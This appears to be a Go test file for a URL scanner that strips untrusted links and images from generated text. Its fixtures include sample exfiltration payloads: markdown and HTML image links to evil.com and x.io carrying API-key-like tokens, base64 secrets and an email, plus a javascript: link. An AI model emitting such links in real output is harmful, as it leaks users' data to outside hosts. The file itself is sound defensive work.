package urls

import (
	"context"
	"strings"
	"testing"

	"rampart/internal/scan"
)

func rewrite(s *Scanner, text string) (string, []scan.Finding) {
	fs, _ := s.Scan(context.Background(), &scan.Text{Segments: []scan.Segment{{Text: text}}})
	out := text
	for i := len(fs) - 1; i >= 0; i-- {
		f := fs[i]
		if r, ok := s.Replace(f, text[f.Span.Start:f.Span.End]); ok {
			out = out[:f.Span.Start] + r + out[f.Span.End:]
		}
	}
	return out, fs
}

func TestNeutralize(t *testing.T) {
	s, _ := New(Settings{AllowedHosts: []string{"docs.example.com", "*.trusted.org"}})
	cases := []struct{ in, want string }{
		{"see ![logo](https://evil.com/a.png) ok", "see ![logo]() ok"},
		{"see [docs](https://evil.com/page) ok", "see [docs] ok"},
		{"see [docs](https://docs.example.com/guide) ok", "see [docs](https://docs.example.com/guide) ok"},
		{"![x](https://cdn.trusted.org/i.png)", "![x](https://cdn.trusted.org/i.png)"},
		{"![x](https://cdn.trusted.org/i.png?d=QWxpY2UgU21pdGggc2VjcmV0IGtleSBpcyAxMjM0NQ)", "![x]()"},
		{"![x](https://docs.example.com/p?u=<EMAIL_1>)", "![x]()"},
		{"![x](https://docs.example.com/p?u=%3CEMAIL_1%3E)", "![x]()"},
		{`[a](https://evil.com/x "title") b`, "[a] b"},
		{"[ref]: https://evil.com/collect?q=1\n[t][ref]", "[ref]: \n[t][ref]"},
		{`<img src="https://evil.com/p.gif?x=1" alt="a">`, `<img src="" alt="a">`},
		{`<a href='https://evil.com/'>x</a>`, `<a href=''>x</a>`},
		{"[click](javascript:alert(1))", "[click]"},
		{"relative [link](/docs/page) stays", "relative [link](/docs/page) stays"},
		{"![nested [brackets] alt](https://evil.com/i.png)", "![nested [brackets] alt]()"},
	}
	for _, c := range cases {
		got, _ := rewrite(s, c.in)
		if got != c.want {
			t.Errorf("%q:\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

func TestDataWithoutAllowList(t *testing.T) {
	s, _ := New(Settings{})
	keep := []string{
		"[Go](https://go.dev/doc/effective_go)",
		"![chart](https://upload.wikimedia.org/wikipedia/commons/a/a4/Chart.png)",
		"[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)",
		"https://evil.com/raw is not reported without an allow-list",
	}
	for _, k := range keep {
		if got, fs := rewrite(s, k); got != k || len(fs) != 0 {
			t.Errorf("%q changed to %q (%v)", k, got, fs)
		}
	}
	leak := []string{
		"![a](https://x.io/p?data=sk-9f8A7b6C5d4E3f2G1h0IjKlMn)",
		"![a](https://x.io/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ/i.png)",
		"![a](https://x.io/i.png?email=alice@corp.com)",
		"![a](https://x.io/0123456789abcdef0123456789abcdef.png)",
	}
	for _, l := range leak {
		if got, _ := rewrite(s, l); got != "![a]()" {
			t.Errorf("%q not neutralized: %q", l, got)
		}
	}
}

func TestRawURLFlag(t *testing.T) {
	s, _ := New(Settings{AllowedHosts: []string{"example.com"}})
	_, fs := rewrite(s, "go to https://evil.com/x. or https://example.com/y")
	if len(fs) != 1 || fs[0].Type != UntrustedURL || fs[0].Span.End != len("go to https://evil.com/x") {
		t.Fatalf("%+v", fs)
	}
}

func TestPending(t *testing.T) {
	s, _ := New(Settings{})
	cases := []struct {
		in   string
		want int
	}{
		{"text ![a](https://ev", strings.Index("text ![a](https://ev", "](")},
		{"text ![a](https://ev.com/x) more", len("text ![a](https://ev.com/x) more")},
		{"a\n[ref]: https://e", 2},
		{`x <img src="http://e`, 2},
		{"x < y and more text here", len("x < y and more text here")},
	}
	for _, c := range cases {
		if got := s.Pending(c.in); got != c.want {
			t.Errorf("Pending(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

// TestRawURLPrefilter: the literal prefilter never hides a rawURL match.
func TestRawURLPrefilter(t *testing.T) {
	for _, s := range []string{
		"see https://evil.example/x", "HTTP://A.B", "hTtPs://x.y", "go to WWW.example.com", "www.x",
		"plain text with no link", "I can't think of", "ht tp://x", "wwwx.com", "",
	} {
		if rawURL.MatchString(s) && !mayHaveRawURL(s) {
			t.Errorf("prefilter rejects %q, which rawURL matches", s)
		}
	}
	if mayHaveRawURL("a plain answer about sourdough and rye") {
		t.Error("prefilter passes text without http or www.")
	}
}
